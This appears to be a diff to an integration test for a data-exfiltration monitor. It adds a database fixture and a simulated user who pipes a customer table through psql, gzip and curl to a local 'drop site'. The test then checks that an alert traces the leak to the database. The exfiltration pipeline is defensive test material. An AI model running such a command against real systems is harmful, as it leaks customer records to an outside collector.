@@ -10,6 +10,9 @@
 # data (its credit bounds what counts), a user who reads a few customer files and uploads
 # an unrelated file, a build, and a root backup outside any session: no alert.
 . "$(dirname "$0")/../lib/itest.sh"
+# Our own database address: test_detection's cluster may be up on 127.0.0.2.
+PG_ADDR=127.0.10.2
+. "$LIB/pg_fixture.sh"
 
 DROP=127.0.10.77:18080
 SRC=$T/src
@@ -18,7 +21,7 @@ mkdir -p "$SRC" "$SHARE"
 chmod a+rx "$T"
 chmod 1777 "$SHARE"
 for u in "alice 1101" "bob 1102" "carol 1103" "dave 1104" "erin 1105" "frank 1106" \
-	"grace 1107"; do
+	"grace 1107" "heidi 1108"; do
 	ensure_user $u
 done
 # Customer exports that do not compress away (gzip keeps about 3/4 of them): 3 MiB each,
@@ -29,6 +32,10 @@ done
 head -c $((96 * 1024 * 3 / 4)) /dev/urandom | base64 -w 76 >"$SRC/customers-small.csv"
 chmod -R a+rX "$SRC"
 
+# The customer database: 60,000 rows, about 8 MiB as CSV, under bulk_read.
+chmod a+rx "$T"
+pg_start "$T/pg" 60000 || die "postgres"
+itest_on_exit "pg_stop $T/pg"
 python3 "$LIB/dropsite.py" --addr "${DROP%:*}" --port "${DROP#*:}" --count "$T/drop.count" \
 	>"$T/drop.out" 2>&1 &
 itest_on_exit "kill $!"
@@ -37,6 +44,7 @@ wait_until 30 grep -q ready "$T/drop.out" || die "drop site"
 cat >"$T/exfilmon.yaml" <<YAML
 sources:
   paths: ["$SRC"]
+  services: ["$PG_ADDR:5432"]
 egress:
   allow: ["127.0.0.1/32"]
 detect:
@@ -110,6 +118,18 @@ check "carol: derived exfiltration, her own data, no hand-off" \
 check "carol: the chain goes through the pipes" \
 	"$(derived --session "$C" --chain-contains "pipe:[")" 1
 
+echo "database: heidi runs psql | gzip | curl"
+in_session 1108 "$T/heidi.info" bash -c "psql -h $PG_ADDR -U postgres -Atq \
+	-c '\\copy (select * from customers) to stdout csv' | gzip -1 |
+	curl -sS --data-binary @- http://$DROP/upload -o /dev/null" || die "heidi workload"
+H=$(info_session "$T/heidi.info")
+wait_alert --session "$H"
+check "heidi: derived exfiltration of the database's rows, her own session" \
+	"$(derived --user heidi --session "$H" --origin-session "$H" --hand-off false \
+		--chain-contains "psql")" 1
+check "heidi: the source is the database" \
+	"$(alerts count --session "$H" --source "$PG_ADDR:5432")" 1
+
 echo "copies: dave copies a copy of a copy, renames it, archives it, uploads the archive"
 in_session 1104 "$T/dave.info" bash -c "
 	set -e; d=\$(mktemp -d); cd \$d
@@ -178,7 +198,7 @@ check "grace: no alert" "$(alerts count --session "$G")" 0
 check "build: no alert" "$(alerts count --session "$(info_session "$T/build.info")")" 0
 check "backup outside a session: no alert" "$(alerts count --session-none)" 0
 check "no volume rule fired for anyone (all under the per-person thresholds)" \
-	"$(alerts count) $(derived)" "5 5"
+	"$(alerts count) $(derived)" "6 6"
 check "lineage records in the evidence" \
 	"$("$BUILD/exfilctl" export --dir "$T/evidence" | grep -c '"type":"lineage"' |
 		awk '{print ($1 > 0)}')" 1
